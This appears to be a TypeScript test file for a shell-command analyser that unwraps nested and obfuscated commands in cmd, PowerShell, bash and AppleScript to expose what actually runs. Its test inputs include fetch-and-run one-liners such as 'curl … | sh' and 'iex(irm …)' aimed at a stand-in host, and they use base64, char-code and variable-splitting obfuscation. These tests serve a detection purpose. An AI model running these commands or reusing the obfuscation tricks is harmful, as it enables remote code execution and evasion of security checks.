/**
 * Command lines that another program runs (forfiles /c, AppleScript's `do shell script`), command
 * words computed by a substitution whose output the text determines, and command names hidden by
 * empty or unset variables: the analysis must expose what actually runs.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document } from './document';
import type { Shell } from '../types';

const doc = (text: string, shell: Shell) => analyse(text, shell, shell === 'cmd' || shell === 'powershell' ? 'windows' : 'macos');
const names = (d: Document) => d.commands.map((c) => c.name);
const layerTexts = (d: Document) => d.layers.filter((l) => l.depth > 0).map((l) => [l.shell, l.origin, l.text]);
const notes = (d: Document, kind: string) =>
  d.notes.filter((n) => n.kind === kind).map((n) => [d.original.slice(n.span.start, n.span.end), n.detail]);

describe('forfiles /c: the command line forfiles runs is a nested cmd layer', () => {
  it('unwraps /c "cmd /c …" down to the PowerShell it starts', () => {
    const d = doc('forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c powershell -c iex(irm http://x.example/a)"', 'cmd');
    expect(layerTexts(d)).toEqual([
      ['cmd', 'nested_shell', 'cmd /c powershell -c iex(irm http://x.example/a)'],
      ['cmd', 'nested_shell', 'powershell -c iex(irm http://x.example/a)'],
      ['powershell', 'nested_shell', 'iex(irm http://x.example/a)'],
    ]);
    expect(names(d)).toContain('invoke-expression');
    // The layer is the quoted argument as written: spans are exact.
    const powershell = d.commands.find((c) => c.name === 'powershell');
    expect(d.original.slice(powershell!.span.start, powershell!.span.end)).toBe('powershell -c iex(irm http://x.example/a)');
  });

  it.each([
    ['-p C:\\Windows -m notepad.exe -c "cmd /c powershell -c iex(irm http://x.example/a)"', 'switches with a dash'],
    ['/P C:\\Windows /M notepad.exe /C "powershell -nop -c iex(irm http://x.example/a)"', 'upper case, no cmd in between'],
  ])('also with %s (%s)', (args) => {
    expect(names(doc(`FORFILES.EXE ${args}`, 'cmd'))).toContain('invoke-restmethod');
    expect(names(doc(`forfiles ${args}`, 'powershell'))).toContain('invoke-restmethod');
  });

  it('decodes the 0xHH character codes forfiles replaces before running the command', () => {
    const d = doc('forfiles /p c:\\windows /m notepad.exe /c "0x70owershell -c iex(irm http://x.example/a)"', 'cmd');
    expect(layerTexts(d)[0]).toEqual(['cmd', 'char_codes', 'powershell -c iex(irm http://x.example/a)']);
    expect(names(d)).toContain('invoke-restmethod');
  });

  it('keeps ordinary housekeeping readable as what it is', () => {
    const d = doc('forfiles /p C:\\Logs /m *.log /d -30 /c "cmd /c del @path"', 'cmd');
    expect(names(d)).toEqual(['forfiles', 'cmd', 'del']);
    expect(d.notes).toEqual([]);
    expect(layerTexts(doc('forfiles /p C:\\Logs /m *.log /c "cmd /c echo 0x22@file0x22"', 'cmd'))[0]?.[2]).toBe('cmd /c echo "@file"');
  });
});

describe("osascript: AppleScript's do shell script runs its string with sh", () => {
  it('lexes the string as a nested sh layer with exact spans', () => {
    const d = doc(`osascript -e 'do shell script "curl -s http://x.example/m | sh"'`, 'zsh');
    expect(layerTexts(d)).toEqual([['sh', 'nested_shell', 'curl -s http://x.example/m | sh']]);
    const curl = d.commands.find((c) => c.name === 'curl');
    expect(d.original.slice(curl!.span.start, curl!.span.end)).toBe('curl -s http://x.example/m');
    expect(d.commands.find((c) => c.name === 'sh')?.pipeline).toBe(curl?.pipeline);
  });

  it.each([
    [`osascript -e 'do shell script "cu" & "rl -s http://x.example/m | sh"'`, 'string joined with &'],
    [`osascript -e "do shell script \\"curl -s http://x.example/m | sh\\" with administrator privileges"`, 'escaped quotes, parameters'],
    [`osascript -e 'tell application "Finder" to do shell script "curl -s http://x.example/m | sh"'`, 'inside a tell'],
    [`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("curl -s http://x.example/m | sh")'`, 'JavaScript'],
    [
      `osascript -l JavaScript -e 'ObjC.import("stdlib"); $.system("curl -s http://x.example/m | sh")'`,
      'JavaScript, the C library system()',
    ],
    [`osascript -e 'do  shell  script "curl -s " & theHost & " | sh"'`, 'a variable operand'],
  ])('%s (%s)', (text) => {
    const d = doc(text, 'bash');
    const sh = d.commands.find((c) => c.name === 'sh' && c.depth === 1);
    expect(sh).toBeDefined();
    expect(d.commands.find((c) => c.name === 'curl')?.pipeline).toBe(sh?.pipeline);
  });

  it('leaves AppleScript that runs no shell alone', () => {
    const d = doc(`osascript -e 'display notification "done" with title "build"'`, 'zsh');
    expect(d.layers.length).toBe(1);
    expect(doc(`osascript -e 'do shell script myCommand'`, 'zsh').layers.length).toBe(1);
  });

  it('reads a long run of scripts in one pass', () => {
    const text = `osascript -e '${'do shell script "'.repeat(20000)}'`;
    const d = doc(text, 'bash');
    expect(d.layers.length).toBeLessThan(20);
  });
});

describe("osascript: Terminal's do script and the Finder's delete", () => {
  it.each([
    [`osascript -e 'tell application "Terminal" to do script "curl -s http://x.example/m | sh"'`, 'AppleScript'],
    [`osascript -l JavaScript -e 'Application("Terminal").doScript("curl -s http://x.example/m | sh")'`, 'JavaScript'],
  ])('the command typed into a new Terminal window is a nested sh layer: %s (%s)', (text) => {
    const d = doc(text, 'zsh');
    const sh = d.commands.find((c) => c.name === 'sh' && c.depth === 1);
    expect(d.commands.find((c) => c.name === 'curl')?.pipeline).toBe(sh?.pipeline);
  });

  it('a deletion through the Finder is analysed as rm of the same path, spans on the script', () => {
    const d = doc(`osascript -e 'tell application "Finder" to delete POSIX file "/var/log/system.log"'`, 'zsh');
    expect(layerTexts(d)).toEqual([['sh', 'nested_shell', "rm '/var/log/system.log'"]]);
    const rm = d.commands.find((c) => c.name === 'rm')!;
    expect(d.original.slice(rm.words[0]!.span.start, rm.words[0]!.span.end)).toBe('delete');
    expect(d.original.slice(rm.words[1]!.span.start, rm.words[1]!.span.end)).toBe('/var/log/system.log');
  });

  it('keeps a quote in the path inside the one word', () => {
    const d = doc(`osascript -e 'tell application "Finder" to delete (POSIX file "/tmp/it'"'"'s.log")'`, 'zsh');
    expect(d.commands.find((c) => c.name === 'rm')?.words[1]?.value).toBe("/tmp/it's.log");
  });

  it('leaves other AppleScript alone', () => {
    expect(doc(`osascript -e 'tell application "Finder" to open POSIX file "/var/log/system.log"'`, 'zsh').layers.length).toBe(1);
  });
});

describe('.NET and COM methods that start a process from strings (PowerShell)', () => {
  it.each([
    [`[Diagnostics.Process]::Start('powershell','-enc ZABpAHIA')`, 'powershell -enc ZABpAHIA'],
    [`[System.Diagnostics.Process]::Start("cmd.exe", "/c whoami")`, 'cmd.exe /c whoami'],
    [`(New-Object -ComObject WScript.Shell).Run("powershell -w hidden -c calc", 0, $false)`, 'powershell -w hidden -c calc'],
    [`$sh = New-Object -ComObject WScript.Shell; $sh.Exec('cmd /c whoami')`, 'cmd /c whoami'],
    [`(New-Object -Com Shell.Application).ShellExecute('cmd.exe', '/c whoami', '', 'open', 0)`, 'cmd.exe /c whoami'],
    [`([wmiclass]'win32_process').Create('cmd /c whoami')`, 'cmd /c whoami'],
    [`Invoke-Expression ([Diagnostics.Process]::Start('cmd', '/c whoami'))`, 'cmd /c whoami'],
  ])('%s starts %s', (text, started) => {
    const d = doc(text, 'powershell');
    expect(layerTexts(d)).toContainEqual(['cmd', 'nested_shell', started]);
    const program = d.commands.find((c) => c.shell === 'cmd' && c.depth > 0);
    expect(program?.name).toBe(started.split(' ')[0]!.replace('.exe', ''));
  });

  it.each([
    `[IO.File]::Create('C:\\Temp\\cmd.txt').Close()`,
    `[Net.WebRequest]::Create('https://intranet.example/')`,
    `[Threading.Thread]::Start()`,
    `$timer.Start()`,
    `$job.Run()`,
  ])('leaves other methods of the same names alone: %s', (text) => {
    expect(doc(text, 'powershell').layers.filter((l) => l.shell === 'cmd')).toEqual([]);
  });

  it('analyses at most 64 such calls in one text and notes the rest as too complex', () => {
    const d = doc(`$w = New-Object -ComObject WScript.Shell\n${"$w.Run('hostname')\n".repeat(70)}`, 'powershell');
    expect(d.layers.filter((l) => l.shell === 'cmd')).toHaveLength(64);
    expect(d.notes.some((n) => n.kind === 'budget_exhausted')).toBe(true);
  });
});

describe('a command substitution as the command word', () => {
  const b64 = 'Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA=='; // curl http://x.example/s | sh

  it('resolves the name from the decoded output and lexes it as a nested layer', () => {
    const d = doc(`$(echo ${b64} | base64 -d)`, 'bash');
    const head = d.commands.find((c) => c.depth === 0);
    expect(head?.name).toBe('curl');
    expect(head?.words[0]?.obfuscated).toBe(true);
    expect(notes(d, 'computed_invocation')).toEqual([[`$(echo ${b64} | base64 -d)`, 'curl']]);
    expect(notes(d, 'base64_decoded')).toEqual([[b64, undefined]]);
    expect(layerTexts(d)).toEqual([['bash', 'base64', 'curl http://x.example/s | sh']]);
    expect(d.commands.filter((c) => c.depth === 1).map((c) => c.name)).toEqual(['echo', 'base64', 'curl', 'sh']);
  });

  it.each([
    [`\`echo ${b64} | base64 -d\``, 'curl'],
    [`"$(echo Y3VybA== | base64 --decode)" -fsSL http://x.example/a`, 'curl'],
    [`sudo $(echo YmFzaA== | base64 -d) -c 'id'`, 'bash'],
    [`$(printf '\\x63\\x75\\x72\\x6c') -s http://x.example/a`, 'curl'],
    [`$(echo -e '\\x63url') -s http://x.example/a`, 'curl'],
  ])('%s runs %s', (text, name) => {
    expect(doc(text, 'bash').commands.find((c) => c.depth === 0)?.name).toBe(name);
  });

  it('passes the remaining words on with the derived command', () => {
    const d = doc('$(echo Y3VybA== | base64 -d) -s http://x.example/a | sh', 'bash');
    expect(layerTexts(d)).toEqual([['bash', 'base64', 'curl -s http://x.example/a']]);
    const top = d.commands.filter((c) => c.depth === 0);
    expect(top.map((c) => [c.name, c.position])).toEqual([
      ['curl', 0],
      ['sh', 1],
    ]);
  });

  it.each(['$(which python3) --version', '$(command -v node) app.js', '$(go env GOPATH)/bin/tool run', "$(printf '%s' ls) -la"])(
    'leaves %s unresolved',
    (text) => {
      const d = doc(text, 'bash');
      expect(notes(d, 'computed_invocation')).toEqual([]);
      expect(d.layers.filter((l) => l.origin !== 'deobfuscated').length).toBe(1);
    },
  );
});

describe('command names hidden by empty or unset variables', () => {
  it('takes unset expansions between letters as empty, with a note on each', () => {
    const d = doc('c${u}url -fsSL http://x.example/s | b${u}ash', 'bash');
    expect(names(d)).toEqual(['curl', 'bash']);
    expect(d.commands[0]?.words[0]?.value).toBe('curl');
    expect(d.commands[0]?.words[0]?.obfuscated).toBe(true);
    expect(notes(d, 'variable_obfuscation')).toEqual([
      ['${u}', '${u}'],
      ['${u}', '${u}'],
    ]);
  });

  it.each([
    ['b$@ash -c id', 'bash'],
    ['/usr/bin/cu$1rl -s http://x.example/a', 'curl'],
    ['"wg${x}et" -q http://x.example/a', 'wget'],
    ['c${u:-}url http://x.example/a', 'curl'],
    ['E=; py${E}th${E}on3 -c 1', 'python3'],
    ['sudo c$@u${v}rl http://x.example/a', 'curl'],
  ])('%s runs %s', (text, name) => {
    const d = doc(text, 'bash');
    expect(d.commands.filter((c) => c.depth === 0).at(-1)?.name).toBe(name);
    expect(notes(d, 'variable_obfuscation').length).toBeGreaterThan(0);
  });

  it.each([
    ['$HOME/bin/tool --x', 'tool'],
    ['${JAVA_HOME}/bin/java -jar app.jar', 'java'],
    ['"$EDITOR" file.txt', '$editor'],
    ['"${PYTHON:-python3}" script.py', 'python3'],
    ['${CROSS_COMPILE}gcc -o a a.c', '${cross_compile}gcc'],
    ['python$PYV -m venv .venv', 'python$pyv'],
    ['/opt/app-${VERSION}/bin/app --help', 'app'],
    ['x86_64-${ARCH}-gcc a.c', 'x86_64-${arch}-gcc'],
    ['ls$0', 'ls$0'],
  ])('leaves %s as it is (%s)', (text, name) => {
    const d = doc(text, 'bash');
    expect(d.commands[0]?.name).toBe(name);
    expect(notes(d, 'variable_obfuscation')).toEqual([]);
  });

  it('only resolves the command word', () => {
    const d = doc('echo a${u}b', 'bash');
    expect(d.commands[0]?.words[1]?.value).toBe('a${u}b');
    expect(d.notes).toEqual([]);
  });
});

describe('a program started by & from a computed folder', () => {
  it.each([
    ['& "$env:LOCALAPPDATA\\Microsoft\\Teams\\Update.exe" --processStart p.exe', 'update'],
    ['& "C:\\Users\\$env:USERNAME\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"', 'onedrivestandaloneupdater'],
    ['& "$PSScriptRoot/tools/certutil.exe" -urlcache', 'certutil'],
  ])('is named by the file name written out: %s', (text, name) => {
    expect(names(doc(text, 'powershell'))).toContain(name);
  });

  it.each(['& "$env:TEMP\\$name.exe" a', '& "$dir\\x${n}.exe"', '& $tool a'])(
    'stays unnamed when the file name is computed too: %s',
    (text) => {
      expect(names(doc(text, 'powershell')).filter((n) => n !== '' && !n.startsWith('$'))).toEqual([]);
    },
  );
});

describe('a command name joined by [string]::Join or [string]::Concat', () => {
  it.each([
    ["&([string]::join('',([char[]](105,101,120)))) 'Get-Process'", 'invoke-expression'],
    ["&([string]::Concat([char[]](105,101,120))) 'Get-Process'", 'invoke-expression'],
    ["& ([String]::Join('-', 'Get', 'Date'))", 'get-date'],
  ])('%s runs %s', (text, name) => {
    const d = doc(text, 'powershell');
    expect(names(d)).toContain(name);
    expect(d.commands.find((c) => c.name === name)?.words[0]?.obfuscated).toBe(true);
  });

  it('leaves a join that is not a command alone', () => {
    expect(names(doc("$line = [string]::Join(', ', $names)", 'powershell'))).not.toContain('invoke-expression');
  });
});
